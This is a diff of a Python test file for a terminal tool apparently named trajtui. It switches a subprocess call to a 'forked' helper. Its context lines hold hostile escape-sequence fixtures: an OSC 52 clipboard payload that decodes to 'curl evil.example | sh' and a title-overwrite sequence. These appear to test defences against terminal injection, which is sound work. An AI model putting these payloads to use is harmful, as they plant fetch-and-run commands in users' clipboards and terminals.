@@ -17,6 +17,7 @@ import pytest
 
 from tests.formats.eval_results import builders as be
 from tests.formats.forecast import builders as bf
+from tests.helpers import forked
 
 OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # "curl evil.example | sh"
 TITLE = "\x1b]0;PWNED\x07"
@@ -44,7 +45,7 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
 def trajtui(
     *args: str | bytes, env: dict[str, str] | None = None
 ) -> subprocess.CompletedProcess[bytes]:
-    return subprocess.run(
+    return forked.run(
         [sys.executable, "-m", "trajtui", *args],
         capture_output=True,
         env={**os.environ, **(env or {})},
